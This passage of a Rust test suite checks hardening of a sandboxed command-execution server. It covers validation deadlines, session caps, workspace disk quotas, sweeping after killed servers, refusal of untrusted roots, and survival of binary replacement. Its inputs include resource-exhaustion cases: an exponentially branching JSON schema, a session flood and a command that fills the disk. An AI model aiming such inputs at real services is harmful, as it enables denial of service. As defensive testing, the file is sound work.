    let mut defs = serde_json::Map::new();
    for i in 0..depth {
        let next = format!("#/$defs/d{}", i + 1);
        defs.insert(
            format!("d{i}"),
            serde_json::json!({ "anyOf": [{ "$ref": next }, { "$ref": next }] }),
        );
    }
    defs.insert(format!("d{depth}"), serde_json::json!({ "type": "string" }));
    serde_json::json!({ "$defs": defs, "$ref": "#/$defs/d0" })
}

/// Regression: validation outlived its deadline on a blocking thread (with the concurrency
/// permit released), and compiling ran on the async workers. Now it runs in a worker process
/// that the deadline, a cancellation and the client's departure stop, and the permit is held
/// until it is gone.
#[test]
pub fn validation_stops_at_its_deadline_on_cancel_and_at_eof() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(
        &cfg,
        "max_concurrent_calls = 1\n[profiles.code]\ndefault_timeout_s = 1\nmax_timeout_s = 2\n",
    )
    .unwrap();
    let workers = || host_processes_with("__warden-validate-json");
    let slow = serde_json::json!({
        "name": "validate_json",
        "arguments": { "data": 1, "schema": exploding_schema(40) }
    })
    .to_string();
    let (mut child, mut stdin, mut stdout) = stdio_session(&["--config", cfg.to_str().unwrap()]);
    // The deadline.
    let started = std::time::Instant::now();
    let v = tool_result(&request(&mut stdin, &mut stdout, 2, "tools/call", &slow));
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap_or("")
            .contains("longer than 2 s"),
        "{v}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(6),
        "{:?}",
        started.elapsed()
    );
    assert!(
        workers().is_empty(),
        "a worker outlived its call: {:?}",
        workers()
    );
    // A cancellation: the worker goes, and the single permit is free for the next call.
    writeln!(
        stdin,
        r#"{{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{slow}}}"#
    )
    .unwrap();
    assert!(
        eventually(5, || !workers().is_empty()),
        "the worker started"
    );
    writeln!(
        stdin,
        r#"{{"jsonrpc":"2.0","method":"notifications/cancelled","params":{{"requestId":3}}}}"#
    )
    .unwrap();
    assert!(eventually(2, || workers().is_empty()), "{:?}", workers());
    let started = std::time::Instant::now();
    let v = tool_result(&request(
        &mut stdin,
        &mut stdout,
        4,
        "tools/call",
        r#"{"name":"run_command","arguments":{"command":"echo next"}}"#,
    ));
    assert_eq!(v["stdout"], "next\n", "{v}");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "the permit was held"
    );
    // Schemas past the limits are refused before anything compiles them.
    let many: Vec<serde_json::Value> = (0..1001)
        .map(|i| serde_json::json!({ "pattern": format!("^a{i}$") }))
        .collect();
    let big = serde_json::json!({
        "name": "validate_json",
        "arguments": { "data": "a", "schema": { "allOf": many } }
    });
    let v = tool_result(&request(
        &mut stdin,
        &mut stdout,
        5,
        "tools/call",
        &big.to_string(),
    ));
    assert_eq!(v["error"]["kind"], "invalid_arguments", "{v}");
    // End of input while a validation runs: the server and its worker are gone promptly.
    writeln!(
        stdin,
        r#"{{"jsonrpc":"2.0","id":6,"method":"tools/call","params":{slow}}}"#
    )
    .unwrap();
    assert!(
        eventually(5, || !workers().is_empty()),
        "the worker started"
    );
    drop(stdin);
    let started = std::time::Instant::now();
    child.wait().unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
    assert!(eventually(2, || workers().is_empty()), "{:?}", workers());
}

/// Regression: 3,000 `initialize` requests made 3,000 sessions (33 MB → 183 MB), kept 300 s.
/// Now sessions are capped (503 with Retry-After), each client address has a rate of new ones
/// (429), and idle sessions close after `idle_timeout_s`.
#[test]
pub fn http_sessions_are_capped_rate_limited_and_expire() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(
        &cfg,
        "[http]\nmax_sessions = 3\nsessions_per_minute = 100\nidle_timeout_s = 2\n",
    )
    .unwrap();
    let (_server, port) = http_server(&["--config", cfg.to_str().unwrap()]);
    for i in 0..3 {
        assert_eq!(raw_post(port, &[]), 200, "session {i}");
    }
    assert_eq!(raw_post(port, &[]), 503, "past max_sessions");
    // Idle sessions close; then there is room again.
    assert!(
        eventually(10, || raw_post(port, &[]) == 200),
        "idle sessions never closed"
    );
    let cfg2 = dir.path().join("c2.toml");
    std::fs::write(
        &cfg2,
        "[http]\nmax_sessions = 100\nsessions_per_minute = 2\n",
    )
    .unwrap();
    let (_server2, port2) = http_server(&["--config", cfg2.to_str().unwrap()]);
    assert_eq!(raw_post(port2, &[]), 200);
    assert_eq!(raw_post(port2, &[]), 200);
    assert_eq!(raw_post(port2, &[]), 429, "past the client's rate");
}

/// Regression: a session's workspace had no quota (400 MiB written by a command, as much
/// again in snapshots). Now it is a tmpfs of `workspace_max_bytes`: a command that fills it
/// reports `limit_hit: "disk"`, a file write gets `disk_full`, the host's disk is untouched.
#[test]
pub fn a_sessions_workspace_has_a_disk_quota() {
    let mut s = Configured::start(|_| {
        "workspace_max_bytes = 4194304\nsnapshots_max_bytes = 4194304\n".into()
    });
    fill_the_workspace(&mut s, "tmpfs");
    s.close();
}

/// Under an operator's `workspace_root` (on disk, not memory) a session's own workspace is
/// bounded too, by a sparse disk image loop-mounted on it: the same limit, the image takes
/// only what was written, and the image, its mount and the workspace go with the session.
#[test]
pub fn a_workspace_under_the_operators_root_has_a_disk_quota() {
    let mut s = Configured::start(|dir| {
        format!(
            "workspace_root = '{}'\nworkspace_max_bytes = 4194304\n",
            dir.join("root").display()
        )
    });
    let root = s.dir.path().join("root");
    fill_the_workspace(&mut s, "disk_image");
    let images: Vec<_> = std::fs::read_dir(root.join(".quota"))
        .unwrap()
        .flatten()
        .map(|e| e.path().join("workspace.ext4"))
        .collect();
    assert_eq!(images.len(), 1, "{images:?}");
    let used =
        std::os::unix::fs::MetadataExt::blocks(&std::fs::metadata(&images[0]).unwrap()) * 512;
    assert!(used <= 4 << 20, "the image holds at most its quota: {used}");
    let _dir = s.close();
    let mut left = Vec::new();
    for e in std::fs::read_dir(&root).unwrap().flatten() {
        match e.file_name().to_str() {
            Some(".quota" | ".snapshots") => left.extend(
                std::fs::read_dir(e.path())
                    .unwrap()
                    .flatten()
                    .map(|e| e.path()),
            ),
            _ => left.push(e.path()),
        }
    }
    assert!(left.is_empty(), "the session's folders are gone: {left:?}");
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(
        !mounts.contains(root.to_str().unwrap()),
        "no mount is left under the root"
    );
}

/// Fill a session's workspace past its 4 MiB quota: the command ends in ENOSPC with
/// `limit_hit: "disk"`, a file write gets `disk_full`, and deleting makes room again.
fn fill_the_workspace(s: &mut Configured, backing: &str) {
    let mut call = |args: &str| s.call(args);
    let v = call(
        r#"{"name":"run_command","arguments":{"command":"head -c 8000000 /dev/zero > big; du -k big"}}"#,
    );
    assert_eq!(v["limit_hit"], "disk", "{v}");
    assert!(
        v["stderr"].as_str().unwrap_or("").contains("No space left"),
        "{v}"
    );
    let v = call(r#"{"name":"file_write","arguments":{"path":"more.txt","content":"x"}}"#);
    assert_eq!(v["error"]["kind"], "disk_full", "{v}");
    let v = call(r#"{"name":"sandbox_metrics","arguments":{}}"#);
    assert_eq!(v["workspace_quota"]["backing"], backing, "{v}");
    assert_eq!(v["workspace_quota"]["max_bytes"], 4194304, "{v}");
    let v = call(r#"{"name":"file_delete","arguments":{"path":"big"}}"#);
    assert_eq!(v["deleted"], true, "{v}");
    let v =
        call(r#"{"name":"run_command","arguments":{"command":"echo fine > small && cat small"}}"#);
    assert_eq!(v["stdout"], "fine\n", "room again: {v}");
    assert!(v["limit_hit"].is_null(), "{v}");
}

/// A server killed with SIGKILL cannot clean up: its state folder (named after its pid) and
/// the tmpfs on its session's workspace stay. The next server sweeps them, once they have been
/// idle a minute and their owner is gone.
#[test]
pub fn what_a_killed_server_left_is_swept_by_the_next() {
    let tmp = tempfile::tempdir().unwrap();
    let env = [("TMPDIR", tmp.path())];
    killed_after_one_call(&[], &env);
    let left: Vec<std::path::PathBuf> = std::fs::read_dir(tmp.path())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert_eq!(left.len(), 1, "{left:?}");
    let mounted = || mounts_under(tmp.path());
    assert_eq!(mounted(), 1, "the workspace's tmpfs is left");
    idle_for_two_minutes(&left[0]);
    let (mut next, stdin, _stdout) = stdio_session_with(&[], &env);
    assert!(!left[0].exists(), "swept");
    assert_eq!(mounted(), 0, "unmounted");
    drop(stdin);
    next.wait().unwrap();
}

/// A server (started with `args` and `env`) that ran one command, then was killed (SIGKILL):
/// its pid.
fn killed_after_one_call(args: &[&str], env: &[(&str, &std::path::Path)]) -> u32 {
    let (mut child, mut stdin, mut stdout) = stdio_session_with(args, env);
    let v = request(
        &mut stdin,
        &mut stdout,
        2,
        "tools/call",
        r#"{"name":"run_command","arguments":{"command":"echo x > note"}}"#,
    );
    assert_eq!(tool_result(&v)["exit_code"], 0, "{v}");
    child.kill().unwrap();
    child.wait().unwrap();
    child.id()
}

/// How many mounts lie under `dir`.
fn mounts_under(dir: &std::path::Path) -> usize {
    std::fs::read_to_string("/proc/self/mountinfo")
        .unwrap()
        .lines()
        .filter(|l| l.contains(dir.to_str().unwrap()))
        .count()
}

/// Make `path` look idle for two minutes, as far as a sweep can tell.
fn idle_for_two_minutes(path: &std::path::Path) {
    let st = Command::new("touch")
        .args(["-d", "2 minutes ago"])
        .arg(path)
        .status()
        .unwrap();
    assert!(st.success());
}

/// Under an operator's `workspace_root`, a killed server leaves its session's workspace with
/// its disk image mounted. The next server sweeps the workspace, the image and the mount, and
/// nothing of the operator's that merely starts with `s`.
#[test]
pub fn a_killed_servers_workspace_under_the_operators_root_is_swept() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    let cfg = dir.path().join("c.toml");
    std::fs::write(&cfg, format!("workspace_root = '{}'\n", root.display())).unwrap();
    let args = ["--config", cfg.to_str().unwrap()];
    let pid = killed_after_one_call(&args, &[]);
    let operators = ["s-notes", "s4000000-1.bak", "shared"];
    for name in operators {
        std::fs::create_dir(root.join(name)).unwrap();
    }
    let prefix = format!("s{pid}-");
    let session = std::fs::read_dir(&root)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .find(|n| n.starts_with(&prefix))
        .expect("the session's workspace is left");
    let left = [root.join(&session), root.join(".quota").join(&session)];
    let mounted = || mounts_under(&root);
    assert_eq!(mounted(), 1, "the workspace's image is left mounted");
    for path in &left {
        assert!(path.exists(), "{path:?} is left");
        idle_for_two_minutes(path);
    }
    let (mut next, stdin, _stdout) = stdio_session_with(&args, &[]);
    for path in &left {
        assert!(!path.exists(), "{path:?} swept");
    }
    assert_eq!(mounted(), 0, "unmounted");
    for name in operators {
        assert!(root.join(name).exists(), "the operator's {name} stays");
    }
    drop(stdin);
    next.wait().unwrap();
}

/// A session folder under the operator's root that looks abandoned (its pid is not alive here,
/// it is old) but is held — as a live server in another pid namespace holds its sessions — is
/// not swept; once released, it is.
#[test]
pub fn a_held_session_folder_is_never_swept() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    let id = "s4000001-1";
    for d in [root.join(id), root.join(".quota").join(id)] {
        std::fs::create_dir_all(&d).unwrap();
        idle_for_two_minutes(&d);
    }
    let cfg = dir.path().join("c.toml");
    std::fs::write(&cfg, format!("workspace_root = '{}'\n", root.display())).unwrap();
    let args = ["--config", cfg.to_str().unwrap()];
    // --no-fork: the lock is the process's own, gone when it is killed.
    let mut holder = Command::new("flock")
        .arg("--no-fork")
        .arg(root.join(".quota").join(id))
        .args(["sleep", "60"])
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    let (mut server, stdin, _stdout) = stdio_session_with(&args, &[]);
    drop(stdin);
    server.wait().unwrap();
    assert!(root.join(id).exists(), "held: not swept");
    holder.kill().unwrap();
    holder.wait().unwrap();
    let (mut server, stdin, _stdout) = stdio_session_with(&args, &[]);
    drop(stdin);
    server.wait().unwrap();
    assert!(!root.join(id).exists(), "released and abandoned: swept");
}

/// An operator's root that is a link, or another user's folder, is refused: the server never
/// creates, formats or mounts session folders where someone else could have planted links.
#[test]
pub fn a_root_the_server_does_not_own_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let real = dir.path().join("real");
    std::fs::create_dir(&real).unwrap();
    let link = dir.path().join("link");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let theirs = dir.path().join("theirs");
    std::fs::create_dir(&theirs).unwrap();
    std::os::unix::fs::chown(&theirs, Some(65534), Some(65534)).unwrap();
    for root in [&link, &theirs] {
        let mut s = Configured::start(|_| format!("workspace_root = '{}'\n", root.display()));
        let v = s.call(r#"{"name":"run_command","arguments":{"command":"echo x"}}"#);
        assert!(
            v.to_string().contains("owned by the server's user"),
            "{root:?}: {v}"
        );
        s.close();
        assert_eq!(
            std::fs::read_dir(&real).unwrap().count(),
            0,
            "nothing made through the link"
        );
    }
}

/// The server's children whose executable is `exe` (its jail helpers), looked for for a few
/// seconds until there is one.
fn helpers_of(server: u32, exe: &std::path::Path) -> Vec<u32> {
    let mut found = Vec::new();
    eventually(10, || {
        let children = std::fs::read_dir(format!("/proc/{server}/task"))
            .into_iter()
            .flatten()
            .flatten()
            .filter_map(|t| std::fs::read_to_string(t.path().join("children")).ok())
            .flat_map(|l| {
                l.split_whitespace()
                    .filter_map(|p| p.parse::<u32>().ok())
                    .collect::<Vec<_>>()
            });
        found = children
            .filter(|p| std::fs::read_link(format!("/proc/{p}/exe")).is_ok_and(|e| e == exe))
            .collect();
        !found.is_empty()
    });
    found
}

/// `warden serve` starts the small `warden-jail` of its own build when it sits beside it (the
/// pool's waiting sandboxes are its children), and never one of another build (a stale or
/// foreign `warden-jail` is passed over and `warden` is its own helper).
#[test]
pub fn serve_uses_the_small_helper_of_its_own_build_only() {
    assert_eq!(
        Command::new(env!("CARGO_BIN_EXE_warden-jail"))
            .arg("--build")
            .output()
            .unwrap()
            .stdout
            .trim_ascii(),
        warden_jail::BUILD.as_bytes()
    );
    // The helper beside the copy of `warden`: this build's (linked), or a copy of it that its
    // group may write, or a script.
    let place = |helper: Option<&str>, mode: u32| {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        std::fs::hard_link(the_binary(), dir.path().join("warden")).unwrap();
        let jail = dir.path().join("warden-jail");
        match helper {
            None if mode == 0o755 => {
                std::fs::hard_link(env!("CARGO_BIN_EXE_warden-jail"), &jail).unwrap();
            }
            None => {
                std::fs::copy(env!("CARGO_BIN_EXE_warden-jail"), &jail).unwrap();
            }
            Some(script) => std::fs::write(&jail, script).unwrap(),
        }
        std::fs::set_permissions(&jail, std::fs::Permissions::from_mode(mode)).unwrap();
        dir
    };
    let echo = r#"{"name":"run_command","arguments":{"argv":["echo","hi"]}}"#;
    for (helper, mode, small) in [
        (None, 0o755, true),
        // Another build's answer, a group-writable helper, one that never answers.
        (Some("#!/bin/sh\necho 0123456789abcdef\n"), 0o755, false),
        (None, 0o775, false),
        (Some("#!/bin/sh\nexec sleep 30\n"), 0o755, false),
    ] {
        let dir = place(helper, mode);
        let (mut child, mut stdin, mut stdout) =
            stdio_session_of(dir.path().join("warden"), &[], &[]);
        let v = request(&mut stdin, &mut stdout, 2, "tools/call", echo);
        assert_eq!(tool_result(&v)["stdout"], "hi\n", "{v}");
        let expected = dir
            .path()
            .join(if small { "warden-jail" } else { "warden" });
        assert!(
            !helpers_of(child.id(), &expected).is_empty(),
            "no helper of the server is {}",
            expected.display()
        );
        drop(stdin);
        child.wait().unwrap();
    }
}

/// Regression: the server kept starting the `warden-jail` beside it by path, so once an upgrade
/// replaced that file under a running server, every cold start met another build (refused) or
/// nothing. A replaced sibling is now passed over for the running executable.
#[test]
pub fn a_running_server_survives_its_small_helper_being_replaced() {
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    std::fs::hard_link(the_binary(), dir.path().join("warden")).unwrap();
    let jail = dir.path().join("warden-jail");
    std::fs::copy(env!("CARGO_BIN_EXE_warden-jail"), &jail).unwrap();
    let (mut child, mut stdin, mut stdout) = stdio_session_of(dir.path().join("warden"), &[], &[]);
    let echo = r#"{"name":"run_command","arguments":{"argv":["echo","hi"]}}"#;
    let v = request(&mut stdin, &mut stdout, 2, "tools/call", echo);
    assert_eq!(tool_result(&v)["stdout"], "hi\n", "{v}");
    assert!(!helpers_of(child.id(), &jail).is_empty());
    // The upgrade: another file takes the helper's name.
    std::fs::remove_file(&jail).unwrap();
    std::fs::write(&jail, "#!/bin/sh\nexit 1\n").unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&jail, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    // Past the pool's waiting sandboxes (prepared before the upgrade): cold starts too.
    for id in 3..8 {
        let v = request(&mut stdin, &mut stdout, id, "tools/call", echo);
        assert_eq!(tool_result(&v)["stdout"], "hi\n", "call {id}: {v}");
    }
    drop(stdin);
    child.wait().unwrap();
}

/// Regression: the server re-executed its binary by path for its sandboxes' helper and its
/// validation worker, so once an upgrade replaced that file under a running server, every
/// call started another build (or nothing). It now starts the file that is running.
#[test]
pub fn a_running_server_survives_its_binary_being_replaced() {
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let bin = dir.path().join("warden");
    std::fs::copy(the_binary(), &bin).unwrap();
    let (mut child, mut stdin, mut stdout) = stdio_session_of(&bin, &[], &[]);
    let echo = r#"{"name":"run_command","arguments":{"argv":["echo","hi"]}}"#;
    let v = request(&mut stdin, &mut stdout, 2, "tools/call", echo);
    assert_eq!(tool_result(&v)["stdout"], "hi\n", "{v}");
    // The upgrade: the file goes, and something else takes its name.
    std::fs::remove_file(&bin).unwrap();
    std::fs::write(&bin, "#!/bin/sh\nexit 1\n").unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    // Past the pool's waiting sandboxes (prepared before the upgrade): cold starts too.
    for id in 3..8 {
        let v = request(&mut stdin, &mut stdout, id, "tools/call", echo);
        assert_eq!(tool_result(&v)["stdout"], "hi\n", "call {id}: {v}");
    }
    let v = request(
        &mut stdin,
        &mut stdout,
        9,
        "tools/call",
        r#"{"name":"validate_json","arguments":{"data":{"a":1},"schema":{"type":"object"}}}"#,
    );
    assert_eq!(tool_result(&v)["valid"], true, "{v}");
    drop(stdin);
    child.wait().unwrap();
}
